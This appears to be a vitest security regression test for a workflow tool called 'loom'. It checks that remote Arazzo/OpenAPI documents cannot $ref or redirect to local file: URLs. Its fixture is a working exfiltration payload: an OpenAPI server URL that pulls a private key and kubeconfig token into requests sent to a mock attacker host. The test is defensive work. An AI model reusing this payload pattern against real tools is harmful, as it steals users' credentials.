/**
 * DECISIONS D25: a document read over http(s) may only reference http(s) resources.
 * What broke: a remote OpenAPI description `$ref`-ed local files (a private key, a kubeconfig
 * token) into a server variable default, and `loom run` sent them to the attacker's server in
 * the request URL. Here an "attacker" node:http server on 127.0.0.1 serves the documents and
 * records everything it receives; the secrets live in a temp folder as file: URLs.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { loadDocument, type Diagnostic } from '../../packages/engine/src/index.js';
import { startServer, type LocalServer } from '../../packages/engine/test/http/local-server.js';
import { runLoomInProcess } from '../support/fake-context.js';
import { serveDocuments } from './document-server.js';

const KEY_SECRET = 'FAKEPRIVATEKEYb3BlbnNzaC1rZXktdjEAAAAA';
const TOKEN_SECRET = 'kube-token-5ecr3t-0123456789';

let scratch = '';
let keyUrl = '';
let kubeconfigUrl = '';
let attacker: LocalServer;
/** Path -> document text served by the attacker; `{{attacker}}`, `{{key}}` and `{{kubeconfig}}` are filled in. */
let documents: Record<string, string> = {};
/** Path -> redirect target. */
let redirects: Record<string, string> = {};

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'loom-exfiltration-'));
  writeFileSync(join(scratch, 'id_rsa'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${KEY_SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`);
  writeFileSync(join(scratch, 'kubeconfig'), `apiVersion: v1\nkind: Config\nusers:\n  - name: admin\n    user:\n      token: ${TOKEN_SECRET}\n`);
  keyUrl = pathToFileURL(join(scratch, 'id_rsa')).href;
  kubeconfigUrl = pathToFileURL(join(scratch, 'kubeconfig')).href;
  attacker = await startServer(serveDocuments(() => ({ documents, redirects }), fill));
});
afterAll(async () => {
  await attacker.close();
  rmSync(scratch, { recursive: true, force: true });
});
beforeEach(() => {
  attacker.received.length = 0;
  documents = {};
  redirects = {};
});

function fill(text: string): string {
  return text.replaceAll('{{attacker}}', attacker.url).replaceAll('{{key}}', keyUrl).replaceAll('{{kubeconfig}}', kubeconfigUrl);
}

/** Everything the attacker's server received, as one string: method, URL, headers and body of every request. */
function everythingReceived(): string {
  return attacker.received.map((request) => `${request.method} ${request.url}\n${JSON.stringify(request.headers)}\n${request.body.toString('utf8')}`).join('\n');
}

function expectNoSecretReceived(): void {
  const received = everythingReceived();
  expect(received).not.toContain(KEY_SECRET);
  expect(received).not.toContain(TOKEN_SECRET);
  expect(received).not.toContain('PRIVATE');
}

const ARAZZO = `arazzo: 1.0.1
info: { title: remote workflow, version: 1.0.0 }
sourceDescriptions:
  - { name: api, url: ./openapi.yaml, type: openapi }
workflows:
  - workflowId: steal
    steps:
      - stepId: call
        operationId: ping
        successCriteria: [{ condition: $statusCode == 200 }]
`;

/** An OpenAPI whose server URL carries the kubeconfig token and the private key, and whose parameter is a local file. */
const OPENAPI_EXFILTRATING = `openapi: 3.1.0
info: { title: attacker, version: 1.0.0 }
servers:
  - url: '{{attacker}}/collect/{token}/{key}'
    variables:
      token:
        default: { $ref: '{{kubeconfig}}#/users/0/user/token' }
      key:
        default: { $ref: '{{key}}' }
paths:
  /ping:
    get:
      operationId: ping
      parameters:
        - { $ref: '#/components/parameters/key' }
      responses: { '200': { description: ok } }
components:
  parameters:
    key: { $ref: '{{key}}' }
`;

function codes(diagnostics: readonly Diagnostic[]): string[] {
  return diagnostics.filter((diagnostic) => diagnostic.severity === 'error').map((diagnostic) => diagnostic.code);
}

describe('D25: a remote document cannot reach local files', () => {
  it('D25: loom run on a remote document whose OpenAPI $refs file: URLs sends nothing from the file system', async () => {
    documents = { '/arazzo.yaml': ARAZZO, '/openapi.yaml': OPENAPI_EXFILTRATING };
    const result = await runLoomInProcess(['run', `${attacker.url}/arazzo.yaml`, '--json'], { cwd: scratch });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('reference-not-allowed');
    expect(result.stderr).toContain('only reference http(s) resources');
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expectNoSecretReceived();
    // The documents were fetched; nothing else was sent.
    expect(attacker.received.map((request) => request.url).sort()).toEqual(['/arazzo.yaml', '/openapi.yaml']);
  });

  it('D25: a local Arazzo document with a remote OpenAPI source: the remote $refs to file: are refused, nothing is sent', async () => {
    documents = { '/openapi.yaml': OPENAPI_EXFILTRATING };
    const file = join(scratch, 'local-with-remote-source.arazzo.yaml');
    writeFileSync(file, ARAZZO.replace('./openapi.yaml', `${attacker.url}/openapi.yaml`));
    const result = await runLoomInProcess(['run', file], { cwd: scratch });
    expect(result.code).toBe(2);
    expect(result.stderr.match(/reference-not-allowed/g)).toHaveLength(3);
    expectNoSecretReceived();
    expect(attacker.received.map((request) => request.url)).toEqual(['/openapi.yaml']);
  });

  it('D25: the API refuses each file: $ref at its position and never reads the file', async () => {
    documents = { '/arazzo.yaml': ARAZZO, '/openapi.yaml': OPENAPI_EXFILTRATING };
    const loaded = await loadDocument(`${attacker.url}/arazzo.yaml`);
    expect(loaded.model).toBeUndefined();
    const refused = loaded.diagnostics.filter((diagnostic) => diagnostic.code === 'reference-not-allowed');
    expect(refused.map((diagnostic) => [diagnostic.source, diagnostic.path])).toEqual([
      [`${attacker.url}/openapi.yaml`, '/servers/0/variables/token/default/$ref'],
      [`${attacker.url}/openapi.yaml`, '/servers/0/variables/key/default/$ref'],
      [`${attacker.url}/openapi.yaml`, '/components/parameters/key/$ref'],
    ]);
    expect(refused[0]!.range?.start.line).toBeGreaterThan(1);
    expect(JSON.stringify(loaded.diagnostics)).not.toContain(TOKEN_SECRET);
    expect(JSON.stringify(loaded.diagnostics)).not.toContain(KEY_SECRET);
    expectNoSecretReceived();
  });

  it('D25: a remote Arazzo document cannot name a file: source description (openapi or arazzo)', async () => {
    writeFileSync(join(scratch, 'local.openapi.yaml'), 'openapi: 3.1.0\ninfo: { title: local, version: 1.0.0 }\npaths: {}\n');
    documents = {
      '/arazzo.yaml': `arazzo: 1.0.1
info: { title: remote, version: 1.0.0 }
sourceDescriptions:
  - { name: local, url: '${pathToFileURL(join(scratch, 'local.openapi.yaml')).href}', type: openapi }
  - { name: key, url: '{{key}}', type: arazzo }
  - { name: untyped, url: '{{kubeconfig}}' }
workflows:
  - workflowId: w
    steps:
      - { stepId: s, operationPath: '{$sourceDescriptions.local.url}#/paths/~1x/get' }
`,
    };
    const loaded = await loadDocument(`${attacker.url}/arazzo.yaml`);
    const refused = loaded.diagnostics.filter((diagnostic) => diagnostic.code === 'reference-not-allowed');
    expect(refused.map((diagnostic) => diagnostic.path)).toEqual(['/sourceDescriptions/0/url', '/sourceDescriptions/1/url', '/sourceDescriptions/2/url']);
    expect(refused[0]!.message).toContain("Source description 'local'");
    // Had the files been read, they would show up as documents of the load or in "not OpenAPI" problems.
    expect(codes(loaded.diagnostics)).not.toContain('source-not-openapi');
    expect(JSON.stringify(loaded.diagnostics)).not.toContain(TOKEN_SECRET);
  });

  it('D25: an Arazzo source of an Arazzo source, both remote, cannot reach file: either', async () => {
    documents = {
      '/root.arazzo.yaml': `arazzo: 1.0.1
info: { title: root, version: 1.0.0 }
sourceDescriptions:
  - { name: inner, url: ./inner/arazzo.yaml, type: arazzo }
workflows:
  - workflowId: w
    steps:
      - { stepId: s, workflowId: '$sourceDescriptions.inner.w' }
`,
      '/inner/arazzo.yaml': ARAZZO.replace('./openapi.yaml', '../openapi.yaml'),
      '/openapi.yaml': OPENAPI_EXFILTRATING,
    };
    const loaded = await loadDocument(`${attacker.url}/root.arazzo.yaml`);
    expect(codes(loaded.diagnostics).filter((code) => code === 'reference-not-allowed')).toHaveLength(3);
    expectNoSecretReceived();
  });

  it('D25: a redirect from http(s) to a file: URL is refused, for the root document and for a source', async () => {
    redirects = { '/root-moved': '{{kubeconfig}}', '/source-moved': '{{key}}' };
    documents = {
      '/arazzo.yaml': ARAZZO.replace('./openapi.yaml', './source-moved'),
    };
    const rootError = await loadDocument(`${attacker.url}/root-moved`).then(
      () => undefined,
      (error: unknown) => error as Error & { code?: string },
    );
    expect(rootError?.code).toBe('LOOM_ERR_READ');
    expect(rootError?.message).toContain('redirected to a file: URL');
    expect(rootError?.message).not.toContain(TOKEN_SECRET);

    const loaded = await loadDocument(`${attacker.url}/arazzo.yaml`);
    const unreadable = loaded.diagnostics.find((diagnostic) => diagnostic.code === 'source-unreadable');
    expect(unreadable?.message).toContain('redirected to a file: URL');
    expect(unreadable?.path).toBe('/sourceDescriptions/0/url');
    expectNoSecretReceived();

    const cli = await runLoomInProcess(['validate', `${attacker.url}/root-moved`], { cwd: scratch });
    expect(cli.code).toBe(2);
    expect(cli.stderr).toContain('redirected to a file: URL');
    expect(cli.stderr).not.toContain(TOKEN_SECRET);
  });

  it('D25: relative $refs in a remote document resolve against its URL and are read over http', async () => {
    documents = {
      '/arazzo.yaml': ARAZZO,
      '/openapi.yaml': `openapi: 3.1.0
info: { title: split, version: 1.0.0 }
servers: [{ url: '{{attacker}}' }]
paths:
  /ping: { $ref: './paths/ping.yaml' }
`,
      '/paths/ping.yaml': `get:\n  operationId: ping\n  responses: { '200': { description: ok } }\n`,
    };
    const loaded = await loadDocument(`${attacker.url}/arazzo.yaml`);
    expect(codes(loaded.diagnostics)).toEqual([]);
    expect(loaded.model).toBeDefined();
    expect(attacker.received.map((request) => request.url).sort()).toEqual(['/arazzo.yaml', '/openapi.yaml', '/paths/ping.yaml']);
  });
  it('D25: --source overrides are the user\'s own: a remote document\'s source may be replaced by a local file', async () => {
    documents = { '/arazzo.yaml': ARAZZO };
    const local = join(scratch, 'override.openapi.yaml');
    writeFileSync(local, `openapi: 3.1.0\ninfo: { title: local, version: 1.0.0 }\nservers: [{ url: 'http://127.0.0.1:1' }]\npaths:\n  /ping:\n    get:\n      operationId: ping\n      responses: { '200': { description: ok } }\n`);
    const loaded = await loadDocument(`${attacker.url}/arazzo.yaml`, { sourceOverrides: { api: local } });
    expect(codes(loaded.diagnostics)).toEqual([]);
    expect(attacker.received.map((request) => request.url)).toEqual(['/arazzo.yaml']);
  });
});

describe('D25: local documents keep their file: references (regression guard)', () => {
  it('D25: a local OpenAPI may $ref local files by relative path and by file: URL', async () => {
    const folder = mkdtempSync(join(scratch, 'local-'));
    writeFileSync(join(folder, 'flow.arazzo.yaml'), ARAZZO);
    writeFileSync(join(folder, 'parameters.yaml'), 'key: { name: key, in: query, schema: { type: string } }\n');
    writeFileSync(join(folder, 'ping.yaml'), `get:\n  operationId: ping\n  parameters: [{ $ref: '${pathToFileURL(join(folder, 'parameters.yaml')).href}#/key' }]\n  responses: { '200': { description: ok } }\n`);
    writeFileSync(join(folder, 'openapi.yaml'), `openapi: 3.1.0\ninfo: { title: local, version: 1.0.0 }\nservers: [{ url: 'http://127.0.0.1:1' }]\npaths:\n  /ping: { $ref: './ping.yaml' }\n`);
    const loaded = await loadDocument(join(folder, 'flow.arazzo.yaml'));
    expect(codes(loaded.diagnostics)).toEqual([]);
    const target = loaded.model!.workflows.get('steal')!.steps[0]!.target;
    expect(target.kind === 'operation' ? target.operation.parameters.map((parameter) => parameter.name) : []).toEqual(['key']);
  });
});
